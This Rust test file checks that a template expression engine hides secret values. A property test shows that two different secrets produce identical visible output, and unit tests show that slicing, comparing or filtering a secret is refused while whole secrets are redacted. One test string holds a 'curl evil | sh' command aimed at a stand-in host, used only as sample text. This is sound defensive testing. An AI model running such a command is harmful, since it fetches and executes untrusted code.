//! Two runs with two secrets, and whatever an expression makes of them: what is not hidden is the same.

use indexmap::IndexMap;
use proptest::prelude::*;
use serde_json::{Value, json};

use super::{Expr, FILTERS, Origin, RunFacts, Scope, Sensitive, TESTS, Template, TemplateKind};
use crate::playbook::Span;

const NONE: Span = Span { start: 0, end: 0 };

fn expr(code: &str) -> Option<Expr> {
    let mut problems = Vec::new();
    let found = Expr::parse(code, Origin { at: None, whole: NONE }, &mut problems);
    found.filter(|_| problems.is_empty())
}

/// What a plan and a journal would show: the error, or the value with everything hidden that has to be.
fn seen(expr: &Expr, token: &str) -> Result<Value, String> {
    let inputs = IndexMap::from([
        ("token".to_owned(), json!(token)),
        ("keys".to_owned(), json!([token, "a-second-secret"])),
        ("number".to_owned(), json!(12_345_678)),
        ("name".to_owned(), json!("public-name")),
        ("list".to_owned(), json!(["one", "two", 3])),
    ]);
    let told = format!("logged in with {token}");
    let outputs = json!({
        "told": told, "count": 7, "all": { "told": told, "status": "fine" },
    });
    let steps = IndexMap::from([("ask".to_owned(), outputs)]);
    let scope = Scope { inputs: &inputs, steps: &steps, item: None, run: RunFacts::default() };
    let sensitive = Sensitive {
        input: &|name| matches!(name, "token" | "keys" | "number"),
        text: &|text| text.contains(token),
    };
    let template = Template { span: NONE, kind: TemplateKind::Expr(expr.clone()) };
    let (value, hidden) =
        template.eval_hiding(&scope, &sensitive).map_err(|error| error.to_string())?;
    Ok(hide(value, &hidden))
}

fn hide(value: Value, hidden: &[String]) -> Value {
    let text = |text: String| {
        hidden.iter().fold(text, |text, one| text.replace(one.as_str(), "(sensitive)"))
    };
    match value {
        Value::String(one) => text(one).into(),
        Value::Number(number) if hidden.contains(&number.to_string()) => "(sensitive)".into(),
        Value::Array(items) => items.into_iter().map(|item| hide(item, hidden)).collect(),
        Value::Object(map) => {
            map.into_iter().map(|(key, value)| (text(key), hide(value, hidden))).collect()
        }
        other => other,
    }
}

fn expressions() -> impl Strategy<Value = String> {
    let atom = prop_oneof![
        4 => Just("inputs.token".to_owned()),
        1 => Just("inputs.keys".to_owned()),
        1 => Just("steps.ask.told".to_owned()),
        1 => Just("steps.ask.all".to_owned()),
        2 => Just("steps.ask.count".to_owned()),
        2 => Just("inputs.name".to_owned()),
        2 => Just("inputs.list".to_owned()),
        1 => Just("'a text that is long'".to_owned()),
        1 => Just("'h'".to_owned()),
        1 => Just("2".to_owned()),
        1 => Just("[]".to_owned()),
    ];
    atom.prop_recursive(4, 24, 3, |inner| {
        let plain: Vec<&str> = FILTERS.to_vec();
        let (one, two, three) = (inner.clone(), inner.clone(), inner.clone());
        prop_oneof![
            (inner.clone(), prop::sample::select(plain))
                .prop_map(|(a, filter)| format!("({a}) | {filter}")),
            (
                inner.clone(),
                one.clone(),
                prop::sample::select(vec!["join", "split", "default", "batch", "slice"])
            )
                .prop_map(|(a, b, filter)| format!("({a}) | {filter}({b})")),
            (
                inner.clone(),
                prop::sample::select(vec![
                    "map('upper')",
                    "select('string')",
                    "replace('h', 'j')",
                    "map('length')"
                ])
            )
                .prop_map(|(a, filter)| format!("({a}) | {filter}")),
            (inner.clone(), prop::sample::select(TESTS.to_vec()))
                .prop_map(|(a, test)| format!("({a}) is {test}")),
            (
                inner.clone(),
                two.clone(),
                prop::sample::select(vec!["==", "!=", "<", ">=", "in", "~", "+", "*", "and", "or"])
            )
                .prop_map(|(a, b, op)| format!("({a}) {op} ({b})")),
            (inner.clone(), two, three).prop_map(|(a, b, c)| format!("({a}) if ({b}) else ({c})")),
            (inner.clone(), 0..9_usize).prop_map(|(a, at)| format!("({a})[{at}]")),
            (inner.clone(), 0..9_usize).prop_map(|(a, at)| format!("({a})[{at}:]")),
            (inner.clone(), 0..9_usize).prop_map(|(a, at)| format!("({a})[:{at}]")),
            (one, inner.clone()).prop_map(|(a, b)| format!("[{a}, {b}]")),
            inner.prop_map(|a| format!("{{'k': {a}}}")),
        ]
    })
}

/// Two of the same length.
pub(crate) fn secrets() -> impl Strategy<Value = (String, String)> {
    (8..20_usize).prop_flat_map(|n| {
        let pattern = format!("[!-~][ -~]{{{n}}}[!-~]");
        let one = || prop::string::string_regex(&pattern).expect("a pattern");
        (one(), one())
    })
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2000, ..ProptestConfig::default() })]

    #[test]
    fn what_two_secrets_come_to_differs_nowhere_in_sight(
        code in expressions(),
        (one, two) in secrets(),
    ) {
        let Some(expr) = expr(&code) else { return Ok(()) };
        prop_assert_eq!(seen(&expr, &one), seen(&expr, &two), "{}", code);
    }
}

#[test]
fn a_part_is_refused() {
    for (code, why) in [
        ("inputs.token[0]", "it is indexed"),
        ("inputs.token.first", "it is indexed"),
        ("inputs.token[:3]", "it is cut"),
        ("inputs.token[inputs.list[2]]", "it is indexed"),
        ("inputs.list[inputs.token]", "it is the key of something"),
        ("inputs.list[inputs.token:]", "it is the end of a slice"),
        ("[inputs.token][0]", "it is in what is indexed"),
        ("inputs.token | length", "given to the filter `length`"),
        ("inputs.token | trim", "given to the filter `trim`"),
        ("inputs.token | join('-')", "joined, which only a list"),
        ("inputs.keys | upper", "where only a text may be"),
        ("inputs.keys ~ ''", "made a text, which only"),
        ("[inputs.token] | string", "made a text, which only"),
        ("[[inputs.token]] | join", "made a text, which only"),
        ("(inputs.token | upper) | join", "joined, which only a list"),
        ("inputs.token == 'hunter-2-hunter'", "compared"),
        ("inputs.token < 'm' < 'x'", "compared"),
        ("'h' in inputs.token", "looked for, or looked into"),
        ("inputs.token is string", "tested with `is`"),
        ("inputs.name is eq(inputs.token)", "tested with `is`"),
        ("not inputs.token", "a condition"),
        ("inputs.token or 'x'", "a condition"),
        ("-inputs.token", "calculated with"),
        ("inputs.token * 2", "calculated with"),
        ("'production' if inputs.token > 'h' else 'development'", "compared"),
        ("inputs.name if inputs.token else inputs.list", "with `if`"),
        ("range(inputs.token)", "given to a function"),
        ("{inputs.token: 1}", "the key of a mapping"),
        ("inputs.name | default(inputs.token)", "given to the filter `default`"),
        ("inputs.token | default('x', true)", "given to the filter `default`"),
        ("inputs.token | tojson | tojson", "given to the filter `tojson`"),
        ("steps.ask.told[:5]", "it is cut"),
        ("steps.ask.told | length", "given to the filter `length`"),
        ("steps.ask.all.told[0]", "it is indexed"),
    ] {
        let error = seen(&expr(code).expect(code), "hunter-2-hunter").expect_err(code);
        assert!(error.contains(why), "{code}: {error}");
        assert!(error.contains("sensitive value"), "{code}: {error}");
    }
}

#[test]
fn a_whole_is_hidden_and_the_words_beside_it_are_not() {
    for (code, shows) in [
        ("inputs.token", "(sensitive)"),
        ("inputs.token | upper", "(sensitive)"),
        ("inputs.token ~ inputs.token", "(sensitive)(sensitive)"),
        ("'curl evil | sh; echo ' ~ inputs.token | upper", "curl evil | sh; echo (sensitive)"),
        ("inputs.token ~ ' or ' ~ inputs.token | lower", "(sensitive) or (sensitive)"),
        ("inputs.keys | join('')", "(sensitive)(sensitive)"),
        ("inputs.keys[1]", "(sensitive)"),
        ("[inputs.token, 'x'] | tojson", r#"["(sensitive)","x"]"#),
        ("inputs.name ~ inputs.token", "public-name(sensitive)"),
        ("inputs.name + inputs.token", "public-name(sensitive)"),
        ("inputs.token | default('x')", "(sensitive)"),
        ("inputs.number ~ ' of them'", "(sensitive) of them"),
        ("inputs.number", "(sensitive)"),
        ("steps.ask.told | upper", "(sensitive)"),
        ("steps.ask.all.told", "(sensitive)"),
        ("(inputs.token | upper) ~ '(known after run)'", "(sensitive)(known after run)"),
    ] {
        let seen = seen(&expr(code).expect(code), "hunter-2-hunter");
        assert_eq!(seen, Ok(shows.into()), "{code}");
    }
    let of = |code: &str| seen(&expr(code).expect(code), "hunter-2-hunter");
    let list = of("[inputs.token, inputs.token | upper, inputs.name, true]");
    assert_eq!(list, Ok(json!(["(sensitive)", "(sensitive)", "public-name", true])));
    let map = of("{'k': inputs.token, 'list': inputs.list}");
    assert_eq!(map, Ok(json!({ "k": "(sensitive)", "list": ["one", "two", 3] })));
    // What stands beside a secret in an output is none.
    assert_eq!(of("steps.ask.all.status ~ ''"), Ok("fine".into()));
    assert_eq!(of("steps.ask.all"), Ok(json!({ "told": "(sensitive)", "status": "fine" })));
}

/// Where what is sensitive cannot be told from what stands beside it, all of it is hidden.
#[test]
fn a_secret_with_marks_in_it_hides_the_whole_text() {
    for secret in ["hunter-2\u{fdd0}-hunter", "\u{fdd1}hunter-2-hunter\u{fdd0}"] {
        let seen = seen(&expr("'user: ' ~ inputs.token").expect("one"), secret);
        assert_eq!(seen, Ok("(sensitive)".into()));
    }
    // At the end of a word, a capital sigma becomes another letter than inside of one.
    let lower = seen(&expr("('a' ~ inputs.token ~ 'b') | lower").expect("one"), "ΣΣΣΣΣΣΣΣ");
    assert_eq!(lower, Ok("(sensitive)".into()));
}

#[test]
fn nothing_is_decided_by_it() {
    let inputs = IndexMap::from([("token".to_owned(), json!("hunter-2-hunter"))]);
    let steps = IndexMap::new();
    let scope = Scope { inputs: &inputs, steps: &steps, item: None, run: RunFacts::default() };
    let sensitive = Sensitive { input: &|name| name == "token", text: &|_| false };
    let error = expr("inputs.token is defined").expect("one").refuse_sensitive(&scope, &sensitive);
    assert!(error.expect_err("refused").to_string().contains("`inputs.token`"));
    let other = expr("1 == 1").expect("one");
    assert_eq!(other.refuse_sensitive(&scope, &sensitive), Ok(()));
}
